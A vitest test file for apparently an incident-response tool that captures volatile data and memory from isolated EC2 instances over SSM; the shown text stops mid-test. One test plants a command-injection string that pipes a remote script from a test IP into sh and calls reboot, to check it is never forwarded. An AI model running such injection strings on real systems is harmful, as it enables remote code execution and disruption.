import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { AuthorizeSecurityGroupEgressCommand, DescribeVpcEndpointsCommand, EC2Client, ModifyNetworkInterfaceAttributeCommand, type VpcEndpoint } from '@aws-sdk/client-ec2';
import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { DescribeInstanceInformationCommand, GetCommandInvocationCommand, SendCommandCommand, SSMClient } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ISOLATION_GROUP_NAME, UNTRACKING_GROUP_NAME } from '../../../../shared/actions/vpc-isolation.ts';
import type { AnyStep, Step, StepResult } from '../../../../shared/engine/index.ts';
import { StepFailedError } from '../../../../shared/errors/index.ts';
import { isolateNetworkInterfaces } from '../../../../shared/playbooks/ec2-instance/isolation.ts';
import {
  bucketNamePattern,
  captureMemory,
  captureVolatileData,
  LINUX_VOLATILE_SCRIPT,
  memoryCaptureDocument,
  VOLATILE_DATA_DOCUMENT,
  WINDOWS_VOLATILE_SCRIPT,
} from '../../../../shared/playbooks/ec2-instance/online.ts';
import type { Ec2 } from '../../../../shared/playbooks/ec2-instance/types.ts';
import type { StepOutcome } from '../../../../shared/vocabulary/index.ts';
import {
  aConfig,
  anEc2Options,
  anIncident,
  anInstance,
  aStepContext,
  awsError,
  EVIDENCE_BUCKET,
  FIXED_NOW,
  INSTANCE_ID,
  motoNotImplemented,
  recordedBy,
  REGION,
  VPC_ID,
} from '../../helpers/factories.ts';

const ssmMock = mockClient(SSMClient);
const s3Mock = mockClient(S3Client);
const ec2Mock = mockClient(EC2Client);
afterEach(() => {
  ssmMock.reset();
  s3Mock.reset();
  ec2Mock.reset();
  vi.useRealTimers();
});

const COMMAND_ID = '2d2b7c8e-0d6a-4a53-9f3e-5c1b0a9e8d7f';
const MEMORY_COMMAND = 'avml /tmp/mem.lime && aws s3 cp /tmp/mem.lime "$FIREBREAK_MEMORY_S3_URI/mem.lime"';
const ENDPOINT_GROUP = 'sg-0e0e0e0e0e0e0e0e0';

/** The Firebreak documents Terraform deploys with online capture (and its memory command), named after the default prefix. */
const VOLATILE_DOCUMENT = 'firebreak-volatile-data';
const MEMORY_DOCUMENT = 'firebreak-memory-capture';
const DEPLOYED = { volatile_data: VOLATILE_DOCUMENT, memory_capture: MEMORY_DOCUMENT };

/** The playbook's options with online capture on (and no wait, unless given), and the documents Terraform deployed for it (unless given). */
const onlineOptions = (onlineCapture: { enabled?: boolean; wait_seconds?: number; memory_capture_command?: string } = {}, ssmDocuments: { volatile_data?: string; memory_capture?: string } = DEPLOYED) =>
  anEc2Options({ online_capture: { enabled: true, wait_seconds: 0, ...onlineCapture }, ssm_documents: ssmDocuments });

/** The outcome the engine records for a step's result (its data through DynamoDB's JSON round trip). */
const outcomeOf = (step: AnyStep<Ec2>, result: StepResult<unknown>): StepOutcome => ({
  stage: step.stage,
  status: result.status,
  summary: result.summary,
  attempts: 1,
  ...(result.data !== undefined ? { data: JSON.parse(JSON.stringify(result.data)) } : {}),
});

/** A step's own outcome as the engine hands it back on the next delivery: its data read through the step's schema. */
const previousOf = <D>(step: Step<Ec2, D>, outcome: StepOutcome): StepOutcome<D | undefined> => ({
  ...outcome,
  data: step.data.safeParse(outcome.data).data,
});

const ssmEndpoint = (service: string, id: string): VpcEndpoint => ({
  VpcEndpointId: id,
  VpcEndpointType: 'Interface',
  VpcId: VPC_ID,
  ServiceName: `com.amazonaws.${REGION}.${service}`,
  State: 'available' as VpcEndpoint['State'],
  PrivateDnsEnabled: true,
  Groups: [{ GroupId: ENDPOINT_GROUP, GroupName: 'endpoints' }],
});
/** The VPC's SSM interface endpoints, through which an isolated agent still reaches SSM. */
const SSM_ENDPOINTS = [ssmEndpoint('ssm', 'vpce-0a0a0a0a0a0a0a0a0'), ssmEndpoint('ssmmessages', 'vpce-0b0b0b0b0b0b0b0b0')];

/**
 * isolateNetworkInterfaces as it ran against mocked EC2, in a VPC with `endpoints` (and online
 * capture on) or with online capture off: its outcome, for the capture steps to read.
 */
async function isolated(endpoints: VpcEndpoint[] | 'online capture off'): Promise<Record<string, StepOutcome>> {
  ec2Mock.on(DescribeVpcEndpointsCommand).resolves({ VpcEndpoints: endpoints === 'online capture off' ? [] : endpoints });
  ec2Mock.on(AuthorizeSecurityGroupEgressCommand).resolves({});
  ec2Mock.on(ModifyNetworkInterfaceAttributeCommand).resolves({});
  const allTraffic = [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }];
  const firebreakGroups = [
    { GroupId: 'sg-0150150150150150a', GroupName: ISOLATION_GROUP_NAME, VpcId: VPC_ID, IpPermissions: [], IpPermissionsEgress: [] },
    { GroupId: 'sg-0aaaaaaaaaaaaaaa0', GroupName: UNTRACKING_GROUP_NAME, VpcId: VPC_ID, IpPermissions: allTraffic, IpPermissionsEgress: allTraffic },
  ];
  const options = endpoints === 'online capture off' ? anEc2Options() : onlineOptions();
  const result = await isolateNetworkInterfaces.run(aStepContext({ options, resource: anInstance({ firebreakGroups }) }));
  ec2Mock.reset();
  return { isolateNetworkInterfaces: outcomeOf(isolateNetworkInterfaces, result) };
}

/** A containment step that ran, as far as the capture steps look at it (its status). */
const ran = (status: StepOutcome['status']): StepOutcome => ({ stage: 'contain', status, summary: `containment ${status}`, attempts: 1 });

const online = (PlatformType: 'Linux' | 'Windows' = 'Linux') =>
  ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'Online', PlatformType }] });

/** What the Linux script prints: the collection gzipped and base64-encoded, between markers. */
const encodedStdout = (text: string) => `FIREBREAK-BEGIN gzip+base64\n${gzipSync(Buffer.from(text)).toString('base64').replace(/(.{76})/g, '$1\n')}\nFIREBREAK-END\n`;

const COLLECTED = '\n===== date (UTC) =====\nThu Jun 19 15:00:00 UTC 2025\n\n===== processes (ps auxww) =====\nroot 1 0.0 /sbin/init\nwww 4242 99.0 ./xmrig -o pool.example:3333\n';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** Isolation as it ran in a VPC with SSM endpoints: the agent may reach them. Run once, before any test prepares its mocks. */
const SSM_REACHABLE = await isolated(SSM_ENDPOINTS);

describe('Step: captureVolatileData', () => {
  it('is skipped when online capture is not configured', async () => {
    // Prepare
    const ctx = aStepContext();

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    expect(result).toEqual({ status: 'skipped', summary: 'volatile data capture is not configured (online_capture.enabled is false)' });
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('is skipped, saying why, when its Firebreak document is not deployed — never falling back to AWS-RunShellScript', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    const ctx = aStepContext({ options: onlineOptions({}, {}), outcomes: SSM_REACHABLE });

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    expect(result).toEqual({
      status: 'skipped',
      summary:
        'volatile data capture is not configured (no Firebreak SSM document for it is deployed: ssm_documents.volatile_data is unset, and Terraform sets it when it deploys the document (with online_capture.enabled); Firebreak never falls back to AWS-RunShellScript)',
    });
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('is skipped on a platform its document has no script for', async () => {
    // Prepare
    ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'Online', PlatformType: 'FreeBSD' as 'Linux' }] });

    // Act
    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE }));

    // Assess
    expect(result).toMatchObject({ status: 'skipped', data: { platform: 'FreeBSD', reason: 'the volatile-data document has no script for FreeBSD (it runs on Linux, MacOS, Windows)' } });
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('records that capture was not possible when isolation left the SSM agent no route', async () => {
    // Prepare
    online();
    const ctx = aStepContext({ options: onlineOptions(), outcomes: await isolated([]) });

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    expect(result.status).toBe('skipped');
    expect(result.summary).toBe(`capture was not possible: isolation leaves the SSM agent no route (no SSM interface endpoints in ${VPC_ID})`);
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('treats an isolation recorded without an egress record as leaving no route', async () => {
    // Prepare
    online();
    const ctx = aStepContext({ options: onlineOptions(), outcomes: await isolated('online capture off') });

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    expect(result.summary).toBe(`capture was not possible: isolation leaves the SSM agent no route (the isolation group of ${VPC_ID} allows no egress)`);
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('is skipped when SSM does not manage the instance', async () => {
    // Prepare
    ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [] });
    const ctx = aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE });

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    expect(ssmMock.commandCalls(DescribeInstanceInformationCommand)[0]!.args[0].input).toEqual({ Filters: [{ Key: 'InstanceIds', Values: [INSTANCE_ID] }] });
    expect(result.status).toBe('skipped');
    expect(result.summary).toBe(`capture was not possible: ${INSTANCE_ID} is not managed by SSM (no agent registered, or its instance profile lacks the SSM permissions)`);
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('is skipped when the SSM agent is not online, saying when it was last seen', async () => {
    // Prepare
    ssmMock.on(DescribeInstanceInformationCommand).resolves({
      InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'ConnectionLost', LastPingDateTime: new Date('2025-06-19T14:41:00Z'), PlatformType: 'Linux' }],
    });
    const ctx = aStepContext({ options: onlineOptions() });

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    expect(result.status).toBe('skipped');
    expect(result.summary).toBe(`capture was not possible: the SSM agent on ${INSTANCE_ID} is ConnectionLost; last ping 2025-06-19T14:41:00.000Z`);
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('says when containment also took the agent\'s credentials away', async () => {
    // Prepare
    ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'ConnectionLost', PlatformType: 'Linux' }] });
    const outcomes: Record<string, StepOutcome> = {
      ...SSM_REACHABLE,
      replaceInstanceProfile: ran('done'),
      revokeInstanceRoleSessions: ran('skipped'),
    };

    // Act
    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes }));

    // Assess
    expect(result.summary).toBe(
      `capture was not possible: the SSM agent on ${INSTANCE_ID} is ConnectionLost (replaceInstanceProfile also cut the agent's role credentials: give the isolation profile AmazonSSMManagedInstanceCore, or enable Default Host Management Configuration)`,
    );
  });

  it('runs the Linux script, decodes its gzip+base64 output and saves the text as evidence with its SHA-256', async () => {
    // Prepare
    online('Linux');
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED), ResponseCode: 0 });
    s3Mock.on(PutObjectCommand).resolves({ VersionId: 'v1' });
    const ctx = aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE });

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    const sent = ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input;
    expect(sent).toEqual({
      DocumentName: VOLATILE_DOCUMENT,
      InstanceIds: [INSTANCE_ID],
      Comment: `Firebreak ${ctx.incident.incidentId}: volatile data`,
      TimeoutSeconds: 3600,
    });
    expect(ssmMock.commandCalls(GetCommandInvocationCommand)[0]!.args[0].input).toEqual({ CommandId: COMMAND_ID, InstanceId: INSTANCE_ID, PluginName: 'volatileDataLinux' });
    const put = s3Mock.commandCalls(PutObjectCommand)[0]!.args[0].input;
    const key = `incidents/${ctx.incident.incidentId}/online/volatile-data.txt`;
    expect(put).toMatchObject({ Bucket: EVIDENCE_BUCKET, Key: key, ContentType: 'text/plain; charset=utf-8' });
    expect(Buffer.from(put.Body as Buffer).toString('utf8')).toBe(COLLECTED);
    const ref = { bucket: EVIDENCE_BUCKET, key, sha256: sha256(COLLECTED), bytes: Buffer.byteLength(COLLECTED), versionId: 'v1' };
    expect(result).toEqual({
      status: 'done',
      summary: `volatile data of ${INSTANCE_ID} captured by Run Command ${COMMAND_ID} (${ref.bytes} bytes, sha256 ${ref.sha256.slice(0, 12)}…)`,
      data: { commandId: COMMAND_ID, platform: 'Linux', bytes: ref.bytes, truncated: false, format: 'gzip+base64' },
      evidence: [ref],
    });
  });

  it('gathers every section the playbook names, compressed to fit the stdout limit', () => {
    // Prepare
    const script = LINUX_VOLATILE_SCRIPT.join('\n');

    // Act
    const sections = [...script.matchAll(/section '([^']+)'/g)].map((m) => m[1]);

    // Assess
    expect(sections).toEqual([
      'date (UTC)',
      'uptime',
      'uname -a',
      'hostname',
      'processes (ps auxww)',
      'network connections',
      'listening sockets',
      'addresses (ip addr)',
      'routes (ip route)',
      'logged-in users (who -a)',
      'logged-in users (w)',
      'last logins (last -n 50)',
      'open network files (lsof -i -n -P, first 1000 lines)',
      'crontabs',
      'kernel modules',
      // Last, because Run Command keeps only the start of stdout.
      'files changed in the last 24 hours in /tmp /var/tmp /dev/shm /root /home /etc (first 500)',
      'files changed in the last 24 hours on the root filesystem (first 2000)',
    ]);
    expect(script).toContain('if have ss; then ss -tupan; else run netstat -tupan; fi');
    expect(script).toContain('-xdev \\( -path /proc -o -path /sys -o -path /dev -o -path /run \\) -prune -o -type f \\( -mmin -1440 -o -cmin -1440 \\)');
    expect(script).toContain('recent / | head -n 2000');
    expect(script).toContain('collect 2>&1 | gzip -9 -c | base64');
  });

  it('sends a shell script that parses', () => {
    // Act
    const check = spawnSync('sh', ['-n'], { input: LINUX_VOLATILE_SCRIPT.join('\n'), encoding: 'utf8' });

    // Assess
    expect(check.stderr).toBe('');
    expect(check.status).toBe(0);
  });

  it('uses the same document for a Windows instance, reading its PowerShell step', async () => {
    // Prepare
    online('Windows');
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout('\r\n===== processes =====\r\nsvchost\r\n').replace(/\n/g, '\r\n') });
    s3Mock.on(PutObjectCommand).resolves({});
    const ctx = aStepContext({ options: onlineOptions() });

    // Act
    const result = await captureVolatileData.run(ctx);

    // Assess
    const sent = ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input;
    expect(sent.DocumentName).toBe(VOLATILE_DOCUMENT);
    expect(sent.Parameters).toBeUndefined();
    expect(ssmMock.commandCalls(GetCommandInvocationCommand)[0]!.args[0].input.PluginName).toBe('volatileDataWindows');
    const script = WINDOWS_VOLATILE_SCRIPT.join('\n');
    for (const needle of ['Win32_Process', 'Get-NetTCPConnection', 'quser', 'Get-ChildItem', 'Select-Object -First 2000']) expect(script).toContain(needle);
    expect(result.data).toMatchObject({ platform: 'Windows', format: 'gzip+base64' });
    expect(Buffer.from(s3Mock.commandCalls(PutObjectCommand)[0]!.args[0].input.Body as Buffer).toString()).toBe('\r\n===== processes =====\r\nsvchost\r\n');
  });

  it('keeps polling through InvocationDoesNotExist, about once a second, within the configured wait', async () => {
    // Prepare
    vi.useFakeTimers();
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock
      .on(GetCommandInvocationCommand)
      .rejectsOnce(awsError('InvocationDoesNotExist'))
      .resolvesOnce({ Status: 'InProgress' })
      .resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });
    s3Mock.on(PutObjectCommand).resolves({});
    const ctx = aStepContext({ options: onlineOptions({ wait_seconds: 5 }) });

    // Act
    const run = captureVolatileData.run(ctx);
    await vi.advanceTimersByTimeAsync(1999);
    const pollsBeforeTwoSeconds = ssmMock.commandCalls(GetCommandInvocationCommand).length;
    await vi.advanceTimersByTimeAsync(1);
    const result = await run;

    // Assess
    expect(pollsBeforeTwoSeconds).toBe(2);
    expect(ssmMock.commandCalls(GetCommandInvocationCommand)).toHaveLength(3);
    expect(result.status).toBe('done');
  });

  it('is pending with the command id while the command runs, and the next delivery polls that command without sending another', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
    s3Mock.on(PutObjectCommand).resolves({});
    const first = aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE });

    // Act
    const pending = await captureVolatileData.run(first);
    ssmMock.resetHistory();
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });
    const previous = previousOf(captureVolatileData, outcomeOf(captureVolatileData, pending));
    const done = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE, previous }));

    // Assess
    expect(pending).toEqual({
      status: 'pending',
      retryAfterSeconds: 60,
      summary: `Run Command ${COMMAND_ID} (volatile data) on ${INSTANCE_ID} is InProgress; looking again in 60s`,
      data: { commandId: COMMAND_ID, sentAt: FIXED_NOW.toISOString(), platform: 'Linux' },
    });
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
    expect(ssmMock.commandCalls(DescribeInstanceInformationCommand)).toHaveLength(0);
    expect(ssmMock.commandCalls(GetCommandInvocationCommand).map((c) => c.args[0].input)).toEqual([{ CommandId: COMMAND_ID, InstanceId: INSTANCE_ID, PluginName: 'volatileDataLinux' }]);
    expect(done).toMatchObject({ status: 'done', data: { commandId: COMMAND_ID } });
  });

  it('is pending when SSM does not show the invocation yet', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).rejects(awsError('InvocationDoesNotExist'));

    // Act
    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions() }));

    // Assess
    expect(result).toMatchObject({ status: 'pending', retryAfterSeconds: 60, data: { commandId: COMMAND_ID } });
  });

  it('fails permanently with the status and an excerpt of stderr when the command fails', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Failed', StatusDetails: 'Failed', ResponseCode: 127, StandardErrorContent: `sh: gzip: Permission denied\n${'x'.repeat(2000)}` });

    // Act
    const run = captureVolatileData.run(aStepContext({ options: onlineOptions() }));

    // Assess
    await expect(run).rejects.toBeInstanceOf(StepFailedError);
    await expect(run).rejects.toMatchObject({ step: 'captureVolatileData', code: 'CommandFailed', retryable: false });
    const error = (await run.catch((e: unknown) => e)) as Error;
    expect(error.message).toContain(`Run Command ${COMMAND_ID} on ${INSTANCE_ID} ended Failed, exit code 127; stderr: sh: gzip: Permission denied`);
    expect(error.message.length).toBeLessThan(800);
    expect(s3Mock.calls()).toHaveLength(0);
  });

  it('fails permanently when the command timed out', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'TimedOut', StatusDetails: 'DeliveryTimedOut', ResponseCode: -1 });

    // Act
    const run = captureVolatileData.run(aStepContext({ options: onlineOptions() }));

    // Assess
    await expect(run).rejects.toMatchObject({ code: 'CommandTimedOut', retryable: false, message: expect.stringContaining('ended TimedOut (DeliveryTimedOut)') });
  });

  it('lets the error of an endpoint that does not implement DescribeInstanceInformation through', async () => {
    // Prepare
    ssmMock.on(DescribeInstanceInformationCommand).rejects(motoNotImplemented('DescribeInstanceInformation'));

    // Act
    const run = captureVolatileData.run(aStepContext({ options: onlineOptions() }));

    // Assess
    await expect(run).rejects.toMatchObject({ name: 'InternalFailure' });
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('never sends hostile tag values, instance names or finding text: the document takes no parameters', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
    const hostile = "x'; curl -s http://198.51.100.23/p.sh | sh; echo '$(reboot)`id`";
    const ctx = aStepContext({
      options: onlineOptions(),
      incident: anIncident({ title: hostile, remoteIps: [hostile] }),
      resource: anInstance({ tags: { Name: hostile, [hostile]: hostile }, keyName: hostile }),
    });

    // Act
    await captureVolatileData.run(ctx);

    // Assess
    const input = ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input;
    const everything = JSON.stringify(input);
    expect(everything).not.toContain('198.51.100.23');
    expect(everything).not.toContain('reboot');
    expect(input.DocumentName).toBe(VOLATILE_DOCUMENT);
    expect(input.Parameters).toBeUndefined();
  });

  it("sends its command when its earlier outcome was only the engine's wait for captureMemory", async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
    const waiting: StepOutcome = { stage: 'evidence', status: 'pending', summary: 'waiting for captureMemory', attempts: 0, data: { waitingOn: ['captureMemory'] } };

    // Act
    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE, previous: previousOf(captureVolatileData, waiting) }));

    // Assess
    expect(previousOf(captureVolatileData, waiting).data).toBeUndefined();
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(1);
    expect(result).toMatchObject({ status: 'pending', data: { commandId: COMMAND_ID } });
  });

  it('saves output without markers as it came, saying so and that it was cut at the stdout limit', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    const stdout = 'x'.repeat(24_000);
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: stdout });
    s3Mock.on(PutObjectCommand).resolves({});

    // Act
    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE }));

    // Assess
    expect(result.summary).toContain("; truncated at Run Command's 24,000-character stdout limit; the output had no capture markers or could not be decoded: saved as it came");
    expect(result.data).toEqual({ commandId: COMMAND_ID, platform: 'Linux', bytes: 24_000, truncated: true, format: 'raw' });
    expect(result.evidence![0]!.sha256).toBe(sha256(stdout));
  });

  it('records what its schema reads back: why it could not, the command it waits on, what it captured', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
    s3Mock.on(PutObjectCommand).resolves({});
    const skipped = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: await isolated([]) }));
    const pending = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE }));
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });

    // Act
    const done = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE }));

    // Assess
    expect(captureVolatileData.data.parse(JSON.parse(JSON.stringify(skipped.data)))).toEqual({ reason: `no SSM interface endpoints in ${VPC_ID}` });
    expect(previousOf(captureVolatileData, outcomeOf(captureVolatileData, pending)).data).toEqual(pending.data);
    expect(recordedBy(captureVolatileData, done)).toEqual(done.data);
  });

  it('runs after captureMemory (order of volatility)', () => {
    // Assess
    expect(captureVolatileData.after).toEqual([captureMemory]);
    expect(captureVolatileData.iamActions).toEqual(['ssm:DescribeInstanceInformation', 'ssm:ListCommands', 'ssm:SendCommand', 'ssm:GetCommandInvocation', 's3:PutObject']);
  });
});

describe('Step: captureMemory', () => {
  it('is skipped when no memory capture command is configured, even with online capture on', async () => {
    // Prepare
    const ctx = aStepContext({ options: onlineOptions() });

    // Act
    const result = await captureMemory.run(ctx);

    // Assess
    expect(result).toEqual({ status: 'skipped', summary: 'memory capture is not configured (no online_capture.memory_capture_command)' });
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('is skipped when online capture is off, even with a command configured', async () => {
    // Prepare
    const ctx = aStepContext({ options: onlineOptions({ enabled: false, memory_capture_command: MEMORY_COMMAND }) });

    // Act
    const result = await captureMemory.run(ctx);

    // Assess
    expect(result.status).toBe('skipped');
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('records that capture was not possible when isolation left the SSM agent no route', async () => {
    // Prepare
    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }), outcomes: await isolated([]) });

    // Act
    const result = await captureMemory.run(ctx);

    // Assess
    expect(result.summary).toBe(`capture was not possible: isolation leaves the SSM agent no route (no SSM interface endpoints in ${VPC_ID})`);
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('runs the configured command with its output going to the incident folder of the evidence bucket, tracked to completion', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
    const options = onlineOptions({ memory_capture_command: MEMORY_COMMAND });
    const ctx = aStepContext({ options, outcomes: SSM_REACHABLE });
    const prefix = `incidents/${ctx.incident.incidentId}/online/memory`;

    // Act
    const pending = await captureMemory.run(ctx);
    ssmMock.resetHistory();
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', ResponseCode: 0 });
    const previous = previousOf(captureMemory, outcomeOf(captureMemory, pending));
    const done = await captureMemory.run(aStepContext({ options, outcomes: SSM_REACHABLE, previous }));

    // Assess
    expect(pending).toMatchObject({ status: 'pending', retryAfterSeconds: 60, data: { commandId: COMMAND_ID } });
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
    expect(done).toEqual({
      status: 'done',
      summary: `memory capture command ${COMMAND_ID} succeeded on ${INSTANCE_ID}; its output and dump are under s3://${EVIDENCE_BUCKET}/${prefix}/`,
      data: { commandId: COMMAND_ID, s3Prefix: `s3://${EVIDENCE_BUCKET}/${prefix}/`, note: expect.stringContaining('needs a route to S3') },
    });
  });

  it('sends the memory capture document with only the incident id and the destination as parameters', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }), resource: anInstance({ tags: { Name: '$(reboot)' } }) });
    const prefix = `incidents/${ctx.incident.incidentId}/online/memory`;

    // Act
    await captureMemory.run(ctx);

    // Assess
    expect(ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input).toEqual({
      DocumentName: MEMORY_DOCUMENT,
      InstanceIds: [INSTANCE_ID],
      Comment: `Firebreak ${ctx.incident.incidentId}: memory`,
      TimeoutSeconds: 3600,
      OutputS3BucketName: EVIDENCE_BUCKET,
      OutputS3KeyPrefix: prefix,
      Parameters: { incidentId: [ctx.incident.incidentId], s3Uri: [`s3://${EVIDENCE_BUCKET}/${prefix}`] },
    });
    expect(ssmMock.commandCalls(GetCommandInvocationCommand)[0]!.args[0].input.PluginName).toBe('captureMemory');
  });

  it('is skipped on Windows, where the configured shell command cannot run', async () => {
    // Prepare
    online('Windows');
    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }) });

    // Act
    const result = await captureMemory.run(ctx);

    // Assess
    expect(result.status).toBe('skipped');
    expect(result.summary).toBe(`capture was not possible: the memory capture document runs the configured shell command on Linux only and ${INSTANCE_ID} runs Windows`);
    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('is skipped, saying why, when its Firebreak document is not deployed', async () => {
    // Prepare
    online();
    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }, { volatile_data: VOLATILE_DOCUMENT }), outcomes: SSM_REACHABLE });

    // Act
    const result = await captureMemory.run(ctx);

    // Assess
    expect(result.status).toBe('skipped');
    expect(result.summary).toBe(
      'memory capture is not configured (no Firebreak SSM document for it is deployed: ssm_documents.memory_capture is unset, and Terraform sets it when it deploys the document (with online_capture.memory_capture_command); Firebreak never falls back to AWS-RunShellScript)',
    );
    expect(ssmMock.calls()).toHaveLength(0);
  });

  it('fails permanently when the memory capture command fails', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Failed', ResponseCode: 1, StandardErrorContent: 'avml: command not found' });

    // Act
    const run = captureMemory.run(aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }) }));

    // Assess
    await expect(run).rejects.toMatchObject({ step: 'captureMemory', code: 'CommandFailed', retryable: false, message: expect.stringContaining('avml: command not found') });
  });

  it('records the platform when the command cannot run on it', async () => {
    // Prepare
    online('Windows');

    // Act
    const result = await captureMemory.run(aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }) }));

    // Assess
    expect(result.data).toEqual({ reason: `the memory capture document runs the configured shell command on Linux only and ${INSTANCE_ID} runs Windows`, platform: 'Windows' });
    expect(captureMemory.data.parse(result.data)).toEqual(result.data);
  });

  it('sends parameters the deployed document admits, and the document admits nothing but an incident id and its evidence prefix', async () => {
    // Prepare
    online();
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
